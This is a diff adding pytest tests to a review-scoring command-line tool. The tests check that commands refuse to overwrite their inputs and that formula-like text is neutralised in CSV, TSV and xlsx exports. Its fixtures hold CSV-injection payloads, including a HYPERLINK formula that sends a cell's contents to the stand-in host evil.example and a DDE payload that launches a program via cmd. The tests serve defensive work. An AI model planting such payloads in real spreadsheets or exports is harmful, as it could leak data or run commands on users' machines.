@@ -230,3 +230,157 @@ def test_suggest_reads_a_headerless_dump(tmp_path: Path) -> None:
     res = invoke("suggest", src, "-n", "2", "-o", out, "--no-header")
     assert res.exit_code == 0, res.output
     assert out.is_file()
+
+
+# -- an output that is one of the inputs is refused, --overwrite or not -----------------------------
+
+
+def _same_file_cases(tmp: Path) -> list[tuple[list[object], Path]]:
+    """(command line, the input it would destroy) for every command that reads and writes files."""
+    dump = write_dump(tmp / "reviews.csv")
+    scored = tmp / "scored.parquet"
+    pd.DataFrame({"text": [r[0] for r in ROWS], "supplier": [r[3] for r in ROWS]}).to_parquet(scored)
+    store = tmp / "koubei.duckdb"
+    store.write_bytes(b"not opened: refused before any work")
+    ids_named_store = tmp / "issues.review_ids.csv"
+    ids_named_store.write_bytes(b"not opened either")
+    folder = tmp / "bundle"
+    folder.mkdir()
+    labels = write_dump(folder / "labels.csv")
+    link = tmp / "hardlink.parquet"
+    link.hardlink_to(scored)
+    return [
+        (["score", dump, "-o", dump, "--format", "csv"], dump),
+        (["score", dump, "-o", tmp / "sub" / ".." / "reviews.csv", "--format", "csv"], dump),
+        (["score", dump, "-o", tmp, "--engine", "dask"], dump),
+        (["aggregate", scored, "-o", scored], scored),
+        (["aggregate", scored, "-o", link], scored),
+        (["emerging", scored, "-o", scored], scored),
+        (["emerging", scored, "-o", store, "--store", store, "--format", "csv"], store),
+        (["report", scored, "-o", scored], scored),
+        (["report", scored, "-o", store, "--store", store], store),
+        (["export", "--store", store, "-o", store, "--format", "xlsx"], store),
+        (["export", "--store", ids_named_store, "-o", tmp / "issues.csv"], ids_named_store),
+        (["suggest", dump, "-o", dump], dump),
+        (["suggest", dump, "--label-studio", dump], dump),
+        (["train", labels, "-o", folder], labels),
+        (["evaluate", folder, labels, "-o", labels], labels),
+    ]
+
+
+@pytest.mark.parametrize("overwrite", [False, True])
+def test_an_output_that_is_an_input_is_refused(tmp_path: Path, overwrite: bool) -> None:
+    for args, victim in _same_file_cases(tmp_path):
+        before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
+        replace = ["--overwrite"] if overwrite and args[0] != "evaluate" else []  # evaluate always replaces
+        res = invoke(*args, *replace)
+        assert res.exit_code == 3, (args, res.output)
+        line = res.output.strip()
+        assert line.startswith("error: ") and "\n" not in line, line
+        assert ("input" in line and str(victim) in line) or "two outputs" in line, line
+        assert "pass another output" in line or "outside it" in line or "for one of them" in line, line
+        assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before, args
+
+
+# -- formula-like text reaches no CSV, TSV or xlsx cell as a formula ------------------------------
+
+HOSTILE = [
+    ("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点我领券\") 瓜子太咸了", "原味瓜子", "+cmd|' /C calc'!A0"),
+    ("@SUM(1+1) 包装破了，撒了一袋子", "-2+3 蜂蜜薯片", "乙食品厂"),
+    ("很好吃，会回购", "芒果干", "＝丁食品"),
+]
+
+
+def write_hostile_dump(path: Path) -> Path:
+    df = pd.DataFrame(HOSTILE, columns=["评论内容", "商品", "供应商"]).assign(**{"=备注": "=1+1"})
+    df.to_csv(path, index=False, encoding="utf-8")
+    return path
+
+
+def csv_cells(path: Path, sep: str = ",") -> list[list[str]]:
+    import csv
+
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        return list(csv.reader(f, delimiter=sep))
+
+
+def formula_like(cells: list[list[str]]) -> list[str]:
+    """Text cells a spreadsheet would run (numbers such as -1.0 are numbers, not text)."""
+    from koubei.io.cells import FORMULA_STARTS
+
+    def number(c: str) -> bool:
+        try:
+            float(c)
+        except ValueError:
+            return False
+        return True
+
+    return [c for row in cells for c in row if c.startswith(FORMULA_STARTS) and not number(c)]
+
+
+@pytest.mark.parametrize(("suffix", "chunks"), [(".csv", "1000"), (".csv", "0"), (".tsv", "1000")])
+def test_score_csv_and_tsv_cells_are_defused_unless_raw(tmp_path: Path, suffix: str, chunks: str) -> None:
+    src = write_hostile_dump(tmp_path / "reviews.csv")
+    sep = "\t" if suffix == ".tsv" else ","
+    out = tmp_path / f"scored{suffix}"
+    res = invoke("score", src, "-o", out, "-q", "--chunksize", chunks, "--workers", "1")
+    assert res.exit_code == 0, res.output
+    cells = csv_cells(out, sep)
+    assert formula_like(cells) == []
+    flat = [c for row in cells for c in row]
+    assert "'=备注" in cells[0] and "'+cmd|' /C calc'!A0" in flat and "'＝丁食品" in flat
+    assert any(c.startswith("'=HYPERLINK(") and c.endswith("瓜子太咸了") for c in flat)
+    raw = tmp_path / f"raw{suffix}"
+    res = invoke("score", src, "-o", raw, "-q", "--chunksize", chunks, "--workers", "1", "--raw")
+    assert res.exit_code == 0, res.output
+    assert "+cmd|' /C calc'!A0" in [c for row in csv_cells(raw, sep) for c in row]
+    assert len(formula_like(csv_cells(raw, sep))) >= 6
+
+
+def test_aggregate_csv_first_column_is_defused(tmp_path: Path) -> None:
+    src = write_hostile_dump(tmp_path / "reviews.csv")
+    scored = tmp_path / "scored.parquet"
+    assert invoke("score", src, "-o", scored, "-q", "--workers", "1").exit_code == 0
+    out = tmp_path / "summary.csv"
+    res = invoke("aggregate", scored, "-o", out, "--by", "supplier", "-q")
+    assert res.exit_code == 0, res.output
+    cells = csv_cells(out)
+    assert formula_like(cells) == [] and "'+cmd|' /C calc'!A0" in [r[0] for r in cells]
+    raw = tmp_path / "raw.csv"
+    assert invoke("aggregate", scored, "-o", raw, "--by", "supplier", "-q", "--raw").exit_code == 0
+    assert "+cmd|' /C calc'!A0" in [r[0] for r in csv_cells(raw)]
+
+
+def test_score_xlsx_keeps_formula_like_text_as_quote_prefixed_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    src = write_hostile_dump(tmp_path / "reviews.csv")
+    out = tmp_path / "scored.xlsx"
+    res = invoke("score", src, "-o", out, "-q", "--workers", "1")
+    assert res.exit_code == 0, res.output
+    ws = load_workbook(out).active
+    hostile = [c for row in ws.iter_rows() for c in row
+               if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "＝"))]
+    assert {"=备注", "=1+1", "+cmd|' /C calc'!A0", "＝丁食品", "-2+3 蜂蜜薯片"} <= {c.value for c in hostile}
+    assert all(c.data_type == "s" and c.quotePrefix for c in hostile), [
+        (c.coordinate, c.value, c.data_type, c.quotePrefix) for c in hostile if not c.quotePrefix]
+
+
+def test_xlsx_text_over_an_excel_cell_is_cut_with_a_warning(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    long_review = "这次的瓜子太咸了，" * 4000  # 36,000 characters
+    src = tmp_path / "reviews.csv"
+    pd.DataFrame({"评论内容": [long_review, "很好吃，会回购"]}).to_csv(src, index=False)
+    out = tmp_path / "scored.xlsx"
+    res = invoke("score", src, "-o", out, "-q", "--workers", "1")
+    assert res.exit_code == 0, res.output
+    warning = next(line for line in res.output.splitlines() if line.startswith("warning:"))
+    assert str(out) in warning and "2 cells" in warning and "32,767" in warning
+    assert "评论内容 1" in warning and "text 1" in warning and ".parquet or .csv" in warning
+    ws = load_workbook(out).active
+    assert len(ws["A2"].value) == 32_767
+    csv_out = tmp_path / "scored.csv"
+    res = invoke("score", src, "-o", csv_out, "-q", "--workers", "1")
+    assert res.exit_code == 0 and "warning" not in res.output
+    assert pd.read_csv(csv_out, encoding="utf-8-sig")["评论内容"].str.len().max() == len(long_review)
